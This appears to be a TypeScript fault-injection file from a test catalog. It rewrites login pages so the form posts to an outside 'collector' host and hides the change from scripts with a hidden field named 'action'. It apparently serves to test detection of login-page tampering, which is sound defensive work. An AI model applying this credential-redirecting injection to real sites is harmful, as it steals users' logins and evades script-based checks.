import type { FaultFile } from './catalog.ts';
import { collector, withLoginPages } from './collector.ts';

export default {
  what: 'the login form sends elsewhere, and a field called action hides it from scripts',
  handlers: withLoginPages((text) =>
    text
      .replace('<form ', `<form action="${collector}/login" `)
      .replace('</form>', '<input type="hidden" name="action" value="/login"></form>'),
  ),
  drift: { class: 'login-changed' },
} satisfies FaultFile;
